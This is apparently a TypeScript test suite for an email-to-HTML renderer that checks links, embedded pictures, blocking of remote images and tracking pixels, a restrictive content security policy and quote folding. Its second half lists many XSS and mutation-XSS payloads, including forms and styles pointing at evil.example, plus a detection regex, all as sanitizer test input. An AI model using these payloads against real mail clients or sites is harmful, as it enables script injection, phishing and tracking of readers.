import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { file, html, letter, multipart, picture, text } from '../fixtures/make-mail.ts'
import { type MailPage, mailPage } from './mail-page.ts'

function pageOf(markup: string, { far = false, language = 'en' as const } = {}): MailPage & { body: string } {
  const page = mailPage(letter({}, html(markup)), {
    withOwnPictures: true,
    withRemotePictures: far,
    language,
  })
  assert.ok(page)
  const [, body = ''] = /<body>([\s\S]*)<\/body>/.exec(page.document) ?? []
  return { ...page, body }
}

describe('a mail’s own page', () => {
  it('is not there for a mail of plain text', () => {
    assert.equal(
      mailPage(letter({}, text('The boiler is leaking.')), {
        withOwnPictures: true,
        withRemotePictures: true,
        language: 'en',
      }),
      null,
    )
  })

  it('keeps words, tables, colours and links, which open elsewhere and show where they lead', () => {
    const { body } = pageOf(
      '<h1 style="color:#b00;font-size:22px">Offer</h1><table bgcolor="#eee"><tr><td width="50%">Valve</td><td>$80</td></tr></table><a href="https://parts.example/valve?id=1&amp;n=2">the valve</a> <a href="tel:+15125550142">call</a>',
    )
    assert.match(body, /<h1 style="color:#b00;font-size:22px">Offer<\/h1>/)
    assert.match(body, /<table bgcolor="#eee"><tr><td width="50%">Valve<\/td><td>\$80<\/td><\/tr><\/table>/)
    assert.match(
      body,
      /href="https:\/\/parts\.example\/valve\?id=1&amp;n=2" title="[^"]*" target="_blank" rel="noopener/,
    )
    assert.match(body, /href="tel:\+15125550142"/)
  })

  it('shows its own pictures from the mail itself, and nothing that only calls itself one', () => {
    const png = picture(200, 100, 9_000)
    const mail = letter(
      {},
      multipart(
        'related',
        html(
          '<p>Here:</p><img src="cid:ceiling%40x" alt="the ceiling" width="200"><img src="cid:script@x" alt="none">',
        ),
        file('image/png', png, { 'Content-ID': '<ceiling@x>' }),
        file('image/png', Buffer.from('<svg onload="alert(1)"/>'), { 'Content-ID': '<script@x>' }),
      ),
    )
    const page = mailPage(mail, { withOwnPictures: true, withRemotePictures: false, language: 'en' })
    assert.ok(page)
    assert.ok(page.document.includes(`src="data:image/png;base64,${png.toString('base64')}"`))
    assert.match(page.document, /<span class="far">none<\/span>/)
    assert.ok(!page.document.includes('svg'))
  })

  it('leaves remote pictures out and counts them; those that only count are never shown', () => {
    const markup =
      '<img src="https://shop.example/logo.png" alt="Harbor Supply"><img src="//cdn.example/tap.jpg"><img src="https://shop.example/open?id=42" width="1" height="1"><img src="https://shop.example/o.gif" style="display:none">'
    const page = pageOf(markup)
    assert.deepEqual([page.remotePictures, page.countingPixels], [2, 2])
    assert.ok(!page.document.includes('example/'), 'no address of it is left')
    assert.match(page.body, /<span class="far">Harbor Supply<\/span>/)
    assert.match(page.policy, /default-src 'none'; img-src data:; /)
    const asked = pageOf(markup, { far: true })
    assert.match(asked.body, /src="https:\/\/shop\.example\/logo\.png" referrerpolicy="no-referrer"/)
    assert.match(asked.body, /src="https:\/\/cdn\.example\/tap\.jpg"/)
    assert.ok(!/open\?id=42|o\.gif/.test(asked.document))
  })

  it('is handed out under a policy by which nothing runs, nothing is sent and nobody else frames it', () => {
    for (const far of [false, true]) {
      const { policy } = pageOf('<p>Hello</p>', { far })
      assert.match(policy, /default-src 'none'/)
      assert.match(policy, /form-action 'none'/)
      assert.match(policy, /frame-ancestors 'self'/)
      assert.match(policy, /sandbox allow-popups allow-popups-to-escape-sandbox$/)
      assert.ok(!/script-src|allow-scripts|allow-same-origin|allow-forms|connect-src/.test(policy))
    }
  })

  it('folds what it repeats of the mail before, in the language of who reads', () => {
    const quoted =
      '<p>Yes, at two.</p><div class="gmail_quote"><div>On Monday Rosa wrote:</div><blockquote type="cite">When?</blockquote></div><p>Ken</p>'
    assert.match(
      pageOf(quoted).body,
      /<p>Yes, at two\.<\/p><details><summary>Earlier messages<\/summary><div[^>]*><div>On Monday/,
    )
    assert.match(pageOf(quoted).body, /<\/details><p>Ken<\/p>$/)
    const polish = mailPage(letter({}, html(quoted)), {
      withOwnPictures: true,
      withRemotePictures: false,
      language: 'pl',
    })
    assert.match(polish?.document ?? '', /<html lang="pl">[\s\S]*Wcześniejsze wiadomości/)
    const outlook = '<div>Fine.<div id="divRplyFwdMsg"><b>From:</b> Rosa</div><div>When?</div></div>'
    assert.match(pageOf(outlook).body, /Fine\.<details>[\s\S]*When\?<\/div><\/details><\/div>$/)
  })

  it('does not fold what was forwarded, nor a mail that is nothing but a quote', () => {
    for (const markup of [
      '<p>See below.</p><div class="gmail_quote">---------- Forwarded message ---------<p>The boiler leaks.</p></div>',
      '<blockquote type="cite">The boiler leaks.</blockquote>',
    ])
      assert.ok(!pageOf(markup).body.includes('<details'), markup)
  })

  it('is as dark as the screen where it has no colours of its own, and white paper where it has', () => {
    assert.match(pageOf('<p>The boiler leaks.</p>').document, /prefers-color-scheme:dark/)
    for (const markup of [
      '<p style="color:#111">x</p>',
      '<table bgcolor="white"></table>',
      '<font color="navy">x</font>',
    ])
      assert.ok(!pageOf(markup).document.includes('prefers-color-scheme'), markup)
  })

  it('says when it was longer than is shown', () => {
    assert.equal(pageOf('<p>Hello</p>').cut, false)
    assert.equal(pageOf('<p>Drip. </p>'.repeat(60_000)).cut, true)
  })
})

/** What may stand in a page: everything else that looks like markup is a hole. */
const TAG = /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/g
const NEVER =
  /<(?:script|style|svg|math|iframe|object|embed|form|input|button|link|meta|base|template|noscript|video|audio|frame)\b|\son[a-z]+\s*=|srcdoc|srcset|javascript:|vbscript:|data:text|expression\(|url\(|@import|position\s*:|behavior\s*:|-moz-binding/i

const hostile: Record<string, string> = {
  script:
    '<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>alert(1)</script>',
  events:
    '<img src=x onerror=alert(1)><body onload=alert(1)><p/onclick=alert(1)>x</p><details open ontoggle=alert(1)>',
  addresses:
    '<a href="javascript:alert(1)">a</a><a href="jav&#x09;ascript:alert(1)">b</a><a href=" \u0001javascript:alert(1)">c</a><a href="data:text/html,<script>alert(1)</script>">d</a><a href="vbscript:x">e</a>',
  drawings:
    '<svg/onload=alert(1)><svg><script>alert(1)</script></svg><svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><svg><animate attributeName=href values=javascript:alert(1)>',
  'mutation by mathematics':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>',
  'mutation by foreign style':
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'mutation by text that is raw':
    '<xmp><img src=x onerror=alert(1)></xmp><noembed><img src=x onerror=alert(1)></noembed><plaintext><img src=x onerror=alert(1)>',
  'mutation by comments':
    '<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<img src=x onerror=alert(1)>]]>',
  styles:
    '<p style="width:expression(alert(1))">a</p><p style="background:url(https://evil.example/x)">b</p><p style="background-image:url(data:image/png;base64,AA)">c</p><p style="-moz-binding:url(x)">d</p><p style="color:r\\65 d;behavior:url(x)">e</p><p style="color:red/**/;list-style:url(https://evil.example)">f</p>',
  sheets:
    '<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example)}</style><link rel=stylesheet href=https://evil.example/x.css>',
  frames:
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src=https://evil.example></iframe><object data=https://evil.example></object><embed src=https://evil.example><frameset><frame src=https://evil.example></frameset>',
  head: '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><meta http-equiv=Content-Security-Policy content="default-src *"><link rel=preload as=image href=https://evil.example/x>',
  forms:
    '<form action=https://evil.example><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>Sign in</button></form><isindex action=javascript:alert(1)>',
  pictures:
    '<img srcset="https://evil.example/a 1x"><picture><source srcset=https://evil.example/b></picture><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:text/html,x"><img src="file:///etc/passwd"><img src="own:0"><video poster=https://evil.example/c></video><input type=image src=https://evil.example/d><table background=https://evil.example/e><tr><td background=https://evil.example/f>x</td></tr></table>',
  covering:
    '<div style="position:fixed;inset:0;z-index:99999;background:red">over all</div><div style="position:absolute;top:-9999px">x</div><div style="margin:-500px;transform:scale(99)">x</div>',
  'unclosed everything':
    '<table><tr><td><a href="https://a.example"><b><i><p title="><img src=x onerror=alert(1)>',
  'attributes without quotes':
    "<p title=`onmouseover=alert(1)`>x</p><a title='\"><img src=x onerror=alert(1)>'>x</a>",
  'own marks':
    '<p data-quoted="own"><script>alert(1)</script></p><span class="far" onclick=alert(1)>x</span><details><summary>x</summary></details>',
}

describe('a hostile page', () => {
  for (const [name, markup] of Object.entries(hostile))
    it(`does nothing by ${name}`, () => {
      const page = pageOf(markup)
      // Whatever is no tag of the list is text: its signs are escaped, and a browser reads it as such.
      const rest = page.body.replace(TAG, (_, slash, tag, attributes) => {
        assert.ok(
          !NEVER.test(`<${slash}${tag}${attributes.replace(/ (?:title|alt)="[^"]*"/g, '')}>`),
          `${tag}${attributes}`,
        )
        return ''
      })
      assert.ok(!rest.includes('<'), rest)
      assert.ok(!/(?:src|href)="[^"]*evil\.example/.test(page.body), page.body)
    })

  it('is cut where it nests without end, and takes no longer than it is large', () => {
    const began = process.cpuUsage()
    for (const piece of [
      '<div>',
      '<div></x>',
      '<table><tr><td>',
      '<blockquote type=cite>',
      '<b></i>',
      '<a>',
      '<tr><p>',
    ]) {
      const page = pageOf(`${piece.repeat(480_000 / piece.length)}deep`)
      assert.ok(page.document.length < 2_000_000)
    }
    const { user } = process.cpuUsage(began)
    assert.ok(user < 10_000_000, `${user / 1e6} s`)
  })
})
